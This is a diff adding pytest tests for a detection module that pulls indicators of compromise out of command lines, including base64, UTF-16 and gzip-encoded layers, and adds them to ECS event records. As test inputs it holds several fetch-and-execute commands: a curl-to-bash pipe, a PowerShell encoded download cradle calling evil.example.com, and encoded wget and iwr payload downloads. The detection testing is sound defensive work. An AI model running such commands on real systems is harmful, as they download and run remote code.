@@ -1,0 +1,109 @@
+"""observables: analyze_text and annotate_event on ECS documents."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+
+import jsonschema
+
+import schemas
+from processors.iocextract import IoCExtract, IoCExtractSettings
+from processors.observables import ObservablesSettings, analyze_text, annotate_event
+from schemas.documents import stable_id
+
+
+def _enc(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+class TestAnalyzeText:
+    """analyze_text finds IoCs in the text and in every decoded layer."""
+
+    def test_plain_command_line(self) -> None:
+        """An ordinary command line gives sorted IoCs and no layers."""
+        result = analyze_text("curl -s http://10.0.0.5:8080/x.sh | bash")
+        assert result.iocs == {"ipv4": ["10.0.0.5"], "url": ["http://10.0.0.5:8080/x.sh"]}
+        assert result.layers == []
+        assert result.flags == {}
+
+    def test_powershell_encoded_payload(self) -> None:
+        """IoCs inside a UTF-16LE -enc payload are found and the layer is recorded."""
+        result = analyze_text(
+            "powershell -enc " + _enc("IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')")
+        )
+        assert result.iocs["url"] == ["http://evil.example.com/a.ps1"]
+        assert result.iocs["dns"] == ["evil.example.com"]
+        assert result.layers[0].encoding_type == "utf-16"
+        assert result.layers[0].depth == 1
+
+    def test_compressed_inner_layer(self) -> None:
+        """IoCs in a gzip inside base64 are found with the layer's encoding."""
+        blob = base64.b64encode(gzip.compress(b"wget http://198.51.100.7/payload")).decode()
+        result = analyze_text(f"echo {blob} | base64 -d | gunzip | sh")
+        assert result.iocs["ipv4"] == ["198.51.100.7"]
+        assert [layer.encoding for layer in result.layers] == ["gz"]
+
+    def test_truncation_flag(self) -> None:
+        """A text longer than the extractor's cap is flagged as truncated."""
+        extractor = IoCExtract(settings=IoCExtractSettings(max_input_chars=10))
+        result = analyze_text("x" * 50, extractor=extractor)
+        assert result.flags == {"truncated": True}
+
+    def test_decode_can_be_disabled(self) -> None:
+        """decode_base64=False skips the unpacker."""
+        result = analyze_text(
+            "powershell -enc " + _enc("Write-Host hello"), settings=ObservablesSettings(decode_base64=False)
+        )
+        assert result.layers == []
+
+
+class TestAnnotateEvent:
+    """annotate_event adds secstream.iocs/decoded and related.* to ECS documents."""
+
+    def _doc(self, command_line: str) -> dict[str, object]:
+        return {
+            "schema_version": schemas.SCHEMA_VERSION,
+            "@timestamp": "2019-03-01T23:23:44.869Z",
+            "message": "execve",
+            "event": {
+                "id": stable_id("auditd", "h", "1551487424.869", 1),
+                "kind": "event",
+                "module": "auditd",
+                "dataset": "auditd.log",
+            },
+            "host": {"name": "h"},
+            "process": {"command_line": command_line},
+            "related": {"ip": ["10.9.9.9"]},
+        }
+
+    def test_fields_added_and_schema_valid(self) -> None:
+        """IoCs, decoded layers and related fields are added and the document still validates."""
+        doc = self._doc(
+            "powershell -enc " + _enc("iwr http://203.0.113.9/a -OutFile c.exe; 00236a2ae558018ed13b5222ef1bd987")
+        )
+        annotate_event(doc)
+        sec = doc["secstream"]
+        assert isinstance(sec, dict)
+        assert sec["iocs"] == {
+            "ipv4": ["203.0.113.9"],
+            "md5_hash": ["00236a2ae558018ed13b5222ef1bd987"],
+            "url": ["http://203.0.113.9/a"],
+        }
+        assert sec["decoded"][0]["field"] == "process.command_line"
+        assert doc["related"] == {"ip": ["10.9.9.9", "203.0.113.9"], "hash": ["00236a2ae558018ed13b5222ef1bd987"]}
+        jsonschema.validate(doc, schemas.schema_for("events"))
+
+    def test_nothing_found_leaves_document_unchanged(self) -> None:
+        """A command line without observables is not touched."""
+        doc = self._doc("/bin/sh -c iptables --version")
+        before = repr(doc)
+        annotate_event(doc)
+        assert repr(doc) == before
+
+    def test_hosts_from_message(self) -> None:
+        """related.hosts gets the dns observables of the message."""
+        doc = self._doc("ls")
+        doc["message"] = "Accepted publickey for bob from 192.0.2.10 via jump.example.org"
+        annotate_event(doc)
+        assert doc["related"] == {"ip": ["10.9.9.9", "192.0.2.10"], "hosts": ["jump.example.org"]}
